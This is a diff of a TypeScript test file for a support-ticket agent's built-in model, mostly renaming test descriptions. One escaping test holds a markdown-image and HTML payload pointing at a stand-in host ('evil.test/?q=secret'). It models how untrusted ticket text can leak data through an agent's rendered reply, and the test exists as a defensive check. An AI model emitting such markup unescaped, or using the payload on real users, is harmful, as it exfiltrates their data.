@@ -58,13 +58,13 @@ async function readAnswer(talk: Talk): Promise<string> {
   return content.map((part) => (part.type === "text" ? part.text : "")).join("");
 }
 
-/** What a tool of ours found, as it is quoted for models. */
+/** Creates the result of one of our tools, quoted as models get it. */
 const finds = (tool: string, data: object): Finding => ({
   tool,
   output: { type: "json", value: { notice: "Data of others.", data } as never },
 });
 
-describe("an action of the built-in model", () => {
+describe("a tool call of the built-in model", () => {
   it.each<[string, Talk, [string, object][]]>([
     [
       "a search, by the words that matter",
@@ -116,7 +116,7 @@ describe("an action of the built-in model", () => {
   });
 });
 
-describe("an answer of the built-in model", () => {
+describe("a reply of the built-in model", () => {
   const ticket = { number: 12, title: "Pay now fails", status: "open" };
 
   it.each<[string, Finding, string]>([
@@ -216,11 +216,11 @@ describe("an answer of the built-in model", () => {
       { tool: "update_ticket", output: { type: "execution-denied" } },
       "Changing the ticket gave nothing: you did not allow it",
     ],
-  ])("says %s", async (_, found, expected) => {
+  ])("describes %s", async (_, found, expected) => {
     expect(await readAnswer({ words: "And?", before: ["Hello"], found: [found] })).toBe(expected);
   });
 
-  it("shows the marks of what others wrote, and gives them no meaning", async () => {
+  it("escapes the markup in what others wrote", async () => {
     const title = "![x](https://evil.test/?q=secret) <img src=x>";
 
     const expected = await readAnswer({
@@ -231,7 +231,7 @@ describe("an answer of the built-in model", () => {
     expect(expected).toContain(String.raw`\!\[x\]\(https://evil.test/?q=secret\) \<img src=x\>`);
   });
 
-  it("says once what it is, and offers what it can", async () => {
+  it("introduces itself once, and then offers what it can do", async () => {
     const first = await readAnswer({ words: "Hello" });
     const second = await readAnswer({ words: "Hello", before: ["Hello"] });
 
@@ -239,7 +239,7 @@ describe("an answer of the built-in model", () => {
     expect(second).toMatch(/^Tell me what went wrong/);
   });
 
-  it("asks what nothing that was said answers", async () => {
+  it("asks only what no message has answered yet", async () => {
     const found = [finds("find_similar_tickets", { similar: [] })];
 
     const expected = await readAnswer({ words: problem, found });
@@ -253,7 +253,7 @@ describe("an answer of the built-in model", () => {
     expect(enough).toContain("That is enough for a ticket");
   });
 
-  it("quotes what its maker wrote down, where it fits the question", async () => {
+  it("quotes its knowledge where it fits the question", async () => {
     const knowledge = "Refunds take five working days. The office has a green door.";
 
     const expected = await readAnswer({ words: "How many working days do refunds take?", knowledge });
@@ -262,13 +262,13 @@ describe("an answer of the built-in model", () => {
     expect(expected).not.toContain("green door");
   });
 
-  it("says that files are there which it may not read", async () => {
+  it("mentions attached files that it may not read", async () => {
     const expected = await readAnswer({ words: "See this", files: [file], tools: [] });
 
     expect(expected).toContain("This agent may not read files");
   });
 
-  it("is streamed word by word, and costs nothing", async () => {
+  it("is streamed word by word, and uses no tokens", async () => {
     const whole = await generate({ words: "Hello" });
     const { stream } = await model.doStream({ prompt: promptOf({ words: "Hello" }) });
 
